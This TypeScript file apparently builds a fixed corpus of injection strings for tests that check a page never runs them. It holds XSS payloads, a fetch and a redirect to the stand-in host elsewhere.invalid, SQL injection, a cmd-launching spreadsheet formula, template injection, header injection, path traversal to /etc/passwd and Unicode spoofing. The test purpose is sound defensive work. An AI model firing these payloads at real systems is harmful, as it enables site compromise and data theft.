// SPDX-License-Identifier: Apache-2.0

// Three hundred texts that would do something if any page took them for more than text.
// All are made here, from forms of mark-up, script, style, address and writing.

export interface Payload {
  kind: string;
  text: string;
}

// go is what a payload does if it is ever run: the tests see each of these.
const go = ["alert(1)", "document.title='run'", "fetch('http://elsewhere.invalid/x')", "location='http://elsewhere.invalid/'"];
const away = "http://elsewhere.invalid/x";

const handlers = ["onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter", "onbeforetoggle", "onscrollend"];
const holders = ["img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "audio src=x", "iframe", "marquee", "object data=x"];

function html(): string[] {
  const out: string[] = [];
  for (const [i, h] of holders.entries()) for (const n of [0, 1, 2]) out.push(`<${h} ${handlers[(i + n * 3) % handlers.length]}=${go[(i + n) % go.length]}>`);
  for (const g of go) out.push(`<script>${g}</script>`, `</p></div><script src=${away}></script>`, `<scr<script>ipt>${g}</scr</script>ipt>`, `<SCRIPT\t>${g}</SCRIPT\n>`);
  for (const t of ["iframe", "embed", "object", "frame", "portal", "fencedframe"]) out.push(`<${t} src="${away}" data="${away}"></${t}>`);
  out.push(`<base href="${away}">`, `<meta http-equiv=refresh content="0;url=${away}">`, `<link rel=stylesheet href=${away}>`, `<link rel=prefetch href=${away}>`, `<form action=${away}><button autofocus>x</form>`,
    `<img src=${away}>`, `<img srcset="${away} 1x">`, `<video poster=${away}>`, `<a href=${away} ping=${away}>x</a>`, `<a href=${away} target=_blank>x</a>`, `<table background=${away}>`, `<input type=image src=${away}>`,
    `<template><script>${go[0]}</script></template>`, `<noscript><img src=x onerror=${go[0]}></noscript>`, `<!--><script>${go[0]}</script-->`, `<![CDATA[<script>${go[0]}</script>]]>`, `<?xml version="1.0"?><script>${go[0]}</script>`,
    `<textarea><script>${go[0]}</script></textarea>`, `<title><script>${go[0]}</script></title>`, `</title></head><body>`, `<dialog open>x</dialog>`, `<div popover id=p>x</div>`, `<slot name=x>`, `<plaintext>`, `<xmp><script>`, `</html><!-- `);
  return out;
}

function attributes(): string[] {
  const out: string[] = [];
  for (const q of [`"`, `'`, "`", ""]) for (const [i, g] of go.entries()) out.push(`${q} ${handlers[i]}=${g} x=${q}`, `${q}><img src=x onerror=${g}>`, `${q} style=background:url(${away}) ${q}`, `${q} autofocus tabindex=1 onfocus=${g} ${q}`);
  return out;
}

function addresses(): string[] {
  const out: string[] = [];
  for (const s of ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\u0001javascript:", "javascript&colon;", "javascript&#58;", "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=", "blob:", "filesystem:", "view-source:", "file:///etc/passwd#"]) out.push(s + go[0], s + go[2]);
  out.push("//elsewhere.invalid/x", "\\\\elsewhere.invalid\\x", "http://user:pass@elsewhere.invalid/", "http://elsewhere.invalid@school.example/", "https://xn--80ak6aa92e.invalid/", "tel:999", "mailto:a@b.invalid?body=x", "ms-word:ofe|u|" + away, "smb://elsewhere.invalid/x", "intent://x#Intent;end");
  return out;
}

function templates(): string[] {
  return ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{%import os%}", "[[7*7]]", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "`${alert(1)}`", "{{#with this}}x{{/with}}", "%{7*7}", "@(7*7)", "$(alert(1))", "`alert 1`",
    "__proto__", "constructor", "toString", "hasOwnProperty", "[object Object]", "undefined", "null", "NaN", "true", "%s%n%x", "%d%p", "$&$1$`$'", "$0", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "'; DROP TABLE envelopes; --", "\" OR 1=1 --", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3"];
}

function styles(): string[] {
  return [`<style>*{background:url(${away})}</style>`, `<style>@import '${away}';</style>`, `</style><script>${go[0]}</script>`, `x{background:url(${away})}`, `expression(alert(1))`, `;color:red;position:fixed;inset:0`, `<div style="position:fixed;inset:0;background:red">x</div>`,
    `<link rel=stylesheet href=data:,*{display:none}>`, `@font-face{src:url(${away})}`, `-moz-binding:url(${away})`, `<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=${go[0]}>`, `/**/}*{display:none}/*`];
}

function drawings(): string[] {
  return [`<svg><script>${go[0]}</script></svg>`, `<svg><animate onbegin=${go[0]} attributeName=x>`, `<svg><a xlink:href="javascript:${go[0]}"><text>x</text></a>`, `<svg><use href="${away}#x">`, `<svg><image href=${away}>`, `<svg><foreignObject><iframe srcdoc="<script>${go[0]}</script>">`,
    `<svg><set attributeName=onmouseover to=${go[0]}>`, `<svg><style><img src=x onerror=${go[0]}></style>`, `<svg/onload=${go[1]}>`, `<math><mtext><script>${go[0]}</script>`, `<math href="javascript:${go[0]}">x</math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${go[0]}>`,
    `<math><mglyph><style><!--</style><img src=x onerror=${go[0]}>`, `<svg><desc><![CDATA[</desc><script>${go[0]}</script>]]>`, `<math><maction actiontype=statusline xlink:href="javascript:${go[0]}">x`];
}

function entities(): string[] {
  const script = `<script>${go[0]}</script>`;
  const each = (f: (c: string) => string): string => [...script].map(f).join("");
  return ["&lt;script&gt;alert(1)&lt;/script&gt;", each((c) => `&#${c.charCodeAt(0)};`), each((c) => `&#x${c.charCodeAt(0).toString(16)};`), each((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`), each((c) => `%${c.charCodeAt(0).toString(16)}`),
    each((c) => `%25${c.charCodeAt(0).toString(16)}`), "&amp;lt;img src=x&amp;gt;", "&NewLine;&Tab;&nbsp;", "&#0;&#xD800;&#x110000;", "&notit;&notin;", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u2039script\u203aalert(1)", "%c0%bcscript%c0%be", "%u003cscript%u003e"];
}

function writing(): string[] {
  const out: string[] = [];
  for (const c of ["\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c", "\u200b", "\u200d", "\ufeff", "\u00ad", "\u2028", "\u2029", "\u0085", "\u001b[31m", "\u0007", "\u0008\u0008\u0008", "\u007f", "\ufff9", "\u{e0041}\u{e0042}", "\u034f", "\u180e"]) out.push(`sa${c}fe`);
  out.push("\u0430dmin", "p\u0430ypal.example", "\u0455chool.example", "раураl", "ａｄｍｉｎ", "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301", "Z\u0351\u036b\u0343\u036a\u0302", "\u{1f469}\u200d\u{1f467}", "\u0e01\u0e34\u0e34\u0e34\u0e34", "ﷺﷺﷺ", "\u202egnp.exe", "İıſK", "\ud83d", "\udc00x");
  return out;
}

function controls(): string[] {
  return ["a\u0000b", "\u0000<script>alert(1)</script>", "a\r\nSet-Cookie: a=b", "a\r\n\r\n<script>alert(1)</script>", "a\nlevel=critical", "a\tb\u000bc\u000cd", "\u0001\u0002\u0003", "x".repeat(3000), "<b>".repeat(800), "<".repeat(2000), "&".repeat(2000), "\u202e".repeat(500), "🙂".repeat(700), "W".repeat(2500), "a/".repeat(1200), "(".repeat(2000), "]]>", "-->", "*/", "*/alert(1)/*", "\\", "\\\\\"", "'\"`", "<", ">", "&", "%", "%%", "%00", "%0d%0aX: y", "..%2f..%2f", "../../etc/passwd", "C:\\aux", "CON", "a;b|c&d", "$(x)`x`", "\u00a0\u3000", "-", "--", "\"\"", "''"];
}

// all are three hundred, the same ones each time.
export function payloads(): Payload[] {
  const groups = { html: html(), attribute: attributes(), address: addresses(), template: templates(), style: styles(), drawing: drawings(), entity: entities(), writing: writing(), control: controls() };
  const out = Object.entries(groups).flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })));
  return out;
}
